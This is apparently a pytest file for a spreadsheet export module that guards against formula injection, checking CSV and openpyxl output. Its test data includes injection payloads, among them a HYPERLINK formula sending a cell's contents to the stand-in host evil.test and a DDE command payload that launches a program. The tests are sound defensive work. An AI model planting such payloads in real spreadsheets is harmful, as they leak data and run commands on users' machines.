"""Tables for spreadsheets: read again as CSV and by openpyxl, and no cell of them is a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from web.desk.spreadsheet import csv_lines, safe_cell, xlsx_file

HEADING = ["问题", "次数"]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "　＝1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"见原文")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    assert safe_cell(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "2024-03-18", "甲=乙", "1", "#N/A", "'已有引号"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_a_csv_file_is_utf_8_that_excel_recognises() -> None:
    table = "".join(csv_lines(HEADING, [["几点来水？\n“东城”", 3], *([formula, 1] for formula in FORMULAS)]))
    assert table.startswith("\ufeff问题,次数\r\n")
    heading, first, *others = csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""))
    assert (heading, first) == (HEADING, ["几点来水？\n“东城”", "3"])
    assert [row[0] for row in others] == [f"'{formula}" for formula in FORMULAS]


def test_a_workbook_has_texts_and_numbers_and_no_formula() -> None:
    content = xlsx_file("表", HEADING, [["几点来水？", 3], *([formula, 1] for formula in FORMULAS)])
    sheet = load_workbook(io.BytesIO(content))["表"]
    heading, first, *others = sheet.iter_rows()
    assert [cell.value for cell in heading] == HEADING
    assert [(cell.value, cell.data_type) for cell in first] == [("几点来水？", "s"), (3, "n")]
    assert {row[0].data_type for row in others} == {"s"}
    assert [row[0].value[0] for row in others] == ["'"] * len(FORMULAS)
    assert sheet.freeze_panes == "A2"
    assert heading[0].font.b


@pytest.mark.parametrize(
    "text", ["#N/A", "#REF!", "TRUE", "2024-03-18", "0012", "1e5", "a\x07b", "长" * 40_000]
)
def test_a_workbook_keeps_texts_as_texts(text: str) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_file("表", ["列"], [[text]]))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == re.sub("\x07", "", text)[:32_000]


def test_a_table_without_rows_has_its_heading() -> None:
    assert list(csv_lines(HEADING, [])) == ["\ufeff问题,次数\r\n"]
    assert load_workbook(io.BytesIO(xlsx_file("表", HEADING, []))).active.max_row == 1
